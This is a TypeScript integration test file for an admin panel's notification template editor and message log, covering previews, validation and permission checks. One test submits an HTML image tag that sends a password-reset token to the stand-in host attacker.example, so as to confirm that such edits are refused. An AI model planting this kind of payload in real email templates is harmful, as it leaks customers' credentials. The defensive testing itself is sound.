import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { notifications, roles } from '../../src/db/schema';
import { notificationTemplates } from '../../src/db/schema/notifications';
import { createUser } from '../../src/modules/users/users.service';
import { DEFAULT_TEMPLATES } from '../../src/notifications/defaults';
import { db, uid } from '../helpers';
import { csrfIn, get, post, signIn } from './panel-client';

const PASSWORD = 'correct horse battery';

/** A signed-in panel user with a built-in role, or a role made of the given permissions. */
async function panelUser(role: string | string[]) {
  const roleId = typeof role === 'string' ? role : `panel-${uid()}`;
  if (typeof role !== 'string') await db().insert(roles).values({ id: roleId, name: roleId, permissions: role });
  const email = `notify-${uid()}@example.com`;
  await createUser(db(), { email, password: PASSWORD, roleId, vendorId: null });
  const { session } = await signIn(email, PASSWORD);
  expect(session).not.toBe('');
  return session;
}

const template = async (id: string) => (await db().select().from(notificationTemplates).where(eq(notificationTemplates.id, id)))[0]!;
const original = (id: string) => DEFAULT_TEMPLATES.find((t) => t.id === id)!;

/** The edit form as the page fills it, with some fields changed. */
async function editForm(session: string, id: string, changes: Record<string, string | undefined>) {
  const t = await template(id);
  const page = await get(`/admin/notifications/${id}`, session);
  const form: Record<string, string> = { _csrf: csrfIn(page.html), body: t.body };
  if (t.subject !== null) form.subject = t.subject;
  if (t.bodyHtml !== null) form.bodyHtml = t.bodyHtml;
  if (t.active) form.active = 'on';
  for (const [name, value] of Object.entries(changes)) {
    if (value === undefined) delete form[name];
    else form[name] = value;
  }
  return form;
}

describe('admin panel notification templates', () => {
  it('lists the templates, filtered as the API list is, and shows a template with the variables it may use', async () => {
    const session = await panelUser('admin');
    const all = await get('/admin/notifications', session);
    expect(all.res.status).toBe(200);
    expect(all.html).toContain('href="/admin/notifications/tmpl_order_confirmation_email"');
    expect(all.html).toContain('order.placed');

    const sms = await get('/admin/notifications?channel=sms', session);
    expect(sms.html).toContain('href="/admin/notifications/tmpl_shipment_shipped_sms"');
    expect(sms.html).not.toContain('href="/admin/notifications/tmpl_order_confirmation_email"');
    expect((await get('/admin/notifications?channel=fax', session)).res.status).toBe(400);

    const edit = await get('/admin/notifications/tmpl_shipment_shipped_email', session);
    expect(edit.res.status).toBe(200);
    for (const name of ['trackingNumber', 'carrier', 'orderId', 'storeName']) expect(edit.html).toContain(`{{${name}}}`);
    expect(edit.html).toContain('The tracking number.');
    expect(edit.html).toContain('name="subject"');
    expect(edit.html).toContain('formaction="/admin/notifications/tmpl_shipment_shipped_email/preview"');
    expect(edit.html).toContain('action="/admin/notifications/tmpl_shipment_shipped_email/reset"');
    // An SMS has neither subject nor HTML part.
    const smsEdit = await get('/admin/notifications/tmpl_shipment_shipped_sms', session);
    expect(smsEdit.html).not.toContain('name="subject"');
    expect(smsEdit.html).not.toContain('name="bodyHtml"');
    expect((await get('/admin/notifications/tmpl_nope', session)).res.status).toBe(404);
  });

  it('saves an edit through the service, keeping unchanged line breaks, and resets to the default', async () => {
    const session = await panelUser('admin');
    const id = 'tmpl_order_confirmation_email';
    const form = await editForm(session, id, { subject: 'Thanks for order {{orderId}}!' });
    // Browsers send textarea line breaks as CRLF.
    form.body = form.body!.replace(/\n/g, '\r\n');
    const saved = await post(`/admin/notifications/${id}`, form, session);
    expect(saved.res.status).toBe(303);
    expect(saved.res.headers.get('Location')).toBe(`/admin/notifications/${id}`);
    const after = await template(id);
    expect(after.subject).toBe('Thanks for order {{orderId}}!');
    expect(after.body).toBe(original(id).body);
    expect(after.bodyHtml).toBe(original(id).bodyHtml);
    expect(after.active).toBe(true);

    // Unticking "active" switches it off.
    expect((await post(`/admin/notifications/${id}`, await editForm(session, id, { active: undefined }), session)).res.status).toBe(303);
    expect((await template(id)).active).toBe(false);

    const page = await get(`/admin/notifications/${id}`, session);
    const reset = await post(`/admin/notifications/${id}/reset`, { _csrf: csrfIn(page.html) }, session);
    expect(reset.res.status).toBe(303);
    const back = await template(id);
    expect({ subject: back.subject, body: back.body, bodyHtml: back.bodyHtml, active: back.active }).toEqual({
      subject: original(id).subject,
      body: original(id).body,
      bodyHtml: original(id).bodyHtml,
      active: true,
    });
    expect((await get(`/admin/notifications/${id}`, `${reset.res.headers.get('Set-Cookie')!.split(';')[0]}; ${session}`)).html).toContain('Template reset to its default');
  });

  it('previews the drafts with sample data without saving them, HTML in a sandboxed frame', async () => {
    const session = await panelUser('admin');
    const id = 'tmpl_payment_receipt_email';
    const before = await template(id);
    const form = await editForm(session, id, { subject: 'Receipt for {{customerName}}: {{amount}}', bodyHtml: '<p>Paid <b>{{total}}</b> by {{customerName}}</p>' });
    const { res, html } = await post(`/admin/notifications/${id}/preview`, form, session);
    expect(res.status).toBe(200);
    expect(html).toContain('Receipt for Ada Lovelace: 71.16 EUR');
    expect(html).toMatch(/<iframe[^>]*sandbox=""/);
    expect(html).toContain('srcdoc="&lt;p&gt;Paid &lt;b&gt;71.16 EUR&lt;/b&gt; by Ada Lovelace&lt;/p&gt;"');
    // The form keeps the drafts; nothing is saved.
    expect(html).toContain('value="Receipt for {{customerName}}: {{amount}}"');
    expect(await template(id)).toEqual(before);
  });

  it('shows the API messages next to the fields: unknown variables, a blank subject, a blank body', async () => {
    const session = await panelUser('admin');
    const id = 'tmpl_order_cancelled_email';
    const before = await template(id);
    const unknown = await post(`/admin/notifications/${id}`, await editForm(session, id, { subject: 'Card {{creditCard}}' }), session);
    expect(unknown.res.status).toBe(422);
    expect(unknown.html).toMatch(/id="f-subject-error">[^<]*\{\{creditCard\}\}/);
    expect(unknown.html).toContain('value="Card {{creditCard}}"');

    const noSubject = await post(`/admin/notifications/${id}`, await editForm(session, id, { subject: '  ' }), session);
    expect(noSubject.res.status).toBe(422);
    expect(noSubject.html).toMatch(/id="f-subject-error">is required for an email template/);
    const noBody = await post(`/admin/notifications/${id}`, await editForm(session, id, { body: '' }), session);
    expect(noBody.res.status).toBe(422);
    expect(noBody.html).toMatch(/id="f-body-error">must not be empty/);

    const preview = await post(`/admin/notifications/${id}/preview`, await editForm(session, id, { bodyHtml: '<p>{{nope}}</p>' }), session);
    expect(preview.res.status).toBe(422);
    expect(preview.html).toMatch(/id="f-bodyHtml-error">[^<]*\{\{nope\}\}/);
    expect(await template(id)).toEqual(before);

    const sms = await post('/admin/notifications/tmpl_shipment_shipped_sms', await editForm(session, 'tmpl_shipment_shipped_sms', { body: 'x'.repeat(1601) }), session);
    expect(sms.res.status).toBe(422);
    expect(sms.html).toMatch(/id="f-body-error">must be at most 1600 characters for SMS/);
  });

  it.each([
    ['tmpl_password_reset_email', 'password_reset'],
    ['tmpl_cart_reminder_email', 'cart_reminder'],
  ])("refuses %s, whose messages carry a credential, to anyone without '*', as the API does, but lets them preview it", async (id, key) => {
    const writer = await panelUser(['notifications:read', 'notifications:write']);
    const before = await template(id);
    const page = await get(`/admin/notifications/${id}`, writer);
    expect(page.html).toContain('needs every permission');
    expect(page.html).not.toContain(`${id}/reset"`);
    const refused = await post(`/admin/notifications/${id}`, await editForm(writer, id, { bodyHtml: '<img src="https://attacker.example/?t={{token}}">' }), writer);
    expect(refused.res.status).toBe(403);
    expect(refused.html).toContain(`This credential cannot change the &#39;${key}&#39; template`);
    expect((await post(`/admin/notifications/${id}/reset`, { _csrf: csrfIn(page.html) }, writer)).res.status).toBe(403);
    expect(await template(id)).toEqual(before);
    expect((await post(`/admin/notifications/${id}/preview`, await editForm(writer, id, {}), writer)).res.status).toBe(200);

    // The same user edits an ordinary template.
    const other = 'tmpl_welcome_email';
    expect((await post(`/admin/notifications/${other}`, await editForm(writer, other, { subject: 'Welcome, {{customerName}}' }), writer)).res.status).toBe(303);
    expect((await template(other)).subject).toBe('Welcome, {{customerName}}');

    // An admin ('*') may change it, and reset it.
    const admin = await panelUser('admin');
    expect((await post(`/admin/notifications/${id}`, await editForm(admin, id, { subject: 'For you, {{customerName}}' }), admin)).res.status).toBe(303);
    expect((await template(id)).subject).toBe('For you, {{customerName}}');
    const adminPage = (await get(`/admin/notifications/${id}`, admin)).html;
    expect(adminPage).toContain(`${id}/reset"`);
    expect((await post(`/admin/notifications/${id}/reset`, { _csrf: csrfIn(adminPage) }, admin)).res.status).toBe(303);
    expect((await template(id)).subject).toBe(original(id).subject);
  });

  it('shows a reader the texts without a form, and refuses its writes; others get 403 and no link', async () => {
    const reader = await panelUser(['notifications:read']);
    const dashboard = await get('/admin', reader);
    expect(dashboard.html).toContain('href="/admin/notifications"');
    const page = await get('/admin/notifications/tmpl_order_confirmation_email', reader);
    expect(page.res.status).toBe(200);
    expect(page.html).not.toContain('name="subject"');
    expect(page.html).not.toContain('/reset"');
    expect(page.html).toContain('{{orderId}}');
    const token = csrfIn(page.html);
    for (const path of ['', '/preview', '/reset']) {
      expect((await post(`/admin/notifications/tmpl_order_confirmation_email${path}`, { _csrf: token, subject: 'x', body: 'y' }, reader)).res.status, path).toBe(403);
    }
    expect((await get('/admin/notifications/log', reader)).res.status).toBe(200);

    const vendor = await panelUser(['products:read']);
    expect((await get('/admin', vendor)).html).not.toContain('href="/admin/notifications"');
    for (const path of ['/admin/notifications', '/admin/notifications/tmpl_order_confirmation_email', '/admin/notifications/log']) {
      expect((await get(path, vendor)).res.status, path).toBe(403);
    }
  });
});

describe('admin panel message log', () => {
  async function message(values: Partial<typeof notifications.$inferInsert>) {
    const row = {
      id: `ntf_${uid()}`,
      channel: 'email' as const,
      recipient: `log-${uid()}@example.com`,
      template: 'order_confirmation',
      subject: `Subject ${uid()}`,
      body: 'Line one\nLine two',
      status: 'sent' as const,
      provider: 'outbox',
      attempts: 1,
      ...values,
    };
    await db().insert(notifications).values(row);
    return row;
  }

  it('filters by channel, status and recipient as the API does, and pages', async () => {
    const session = await panelUser('admin');
    const email = await message({});
    const sms = await message({ channel: 'sms', template: 'shipment_shipped', subject: null, recipient: `+4930${Date.now() % 1e7}`, body: `Shipped ${uid()}` });
    const failed = await message({ status: 'failed', attempts: 6, lastError: 'HTTP 503 from the provider' });

    const bySms = await get('/admin/notifications/log?channel=sms', session);
    expect(bySms.res.status).toBe(200);
    expect(bySms.html).toContain(sms.recipient);
    expect(bySms.html).not.toContain(email.recipient);
    expect(bySms.html).toContain('<option value="sms" selected="">');

    const byStatus = await get('/admin/notifications/log?status=failed', session);
    expect(byStatus.html).toContain(failed.recipient);
    expect(byStatus.html).not.toContain(email.recipient);

    const byRecipient = await get(`/admin/notifications/log?recipient=${encodeURIComponent(email.recipient)}`, session);
    expect(byRecipient.html).toContain(email.subject);
    expect(byRecipient.html).not.toContain(failed.subject!);
    expect(byRecipient.html).toContain('1 in all');

    const paged = await get('/admin/notifications/log?limit=1&page=2', session);
    expect(paged.html).toMatch(/Page 2 of \d+/);
    expect((await get('/admin/notifications/log?status=lost', session)).res.status).toBe(400);
  });

  it("shows a message's body, and a failed one's error and attempts", async () => {
    const session = await panelUser('admin');
    const sent = await message({ bodyHtml: '<p>Hello <b>there</b></p>' });
    const page = await get(`/admin/notifications/log/${sent.id}`, session);
    expect(page.res.status).toBe(200);
    expect(page.html).toContain(sent.subject);
    expect(page.html).toContain('Line one<br/>Line two');
    expect(page.html).toContain('srcdoc="&lt;p&gt;Hello &lt;b&gt;there&lt;/b&gt;&lt;/p&gt;"');
    expect(page.html).not.toContain('id="delivery-error"');
    expect(page.html).toContain('href="/admin/notifications/tmpl_order_confirmation_email"');

    const failed = await message({ status: 'failed', attempts: 6, lastError: 'HTTP 503 from the provider' });
    const failedPage = await get(`/admin/notifications/log/${failed.id}`, session);
    expect(failedPage.html).toMatch(/id="delivery-error">.*Not sent.*after 6 attempts.*HTTP 503 from the provider/s);
    expect((await get('/admin/notifications/log/ntf_nope', session)).res.status).toBe(404);
  });
});
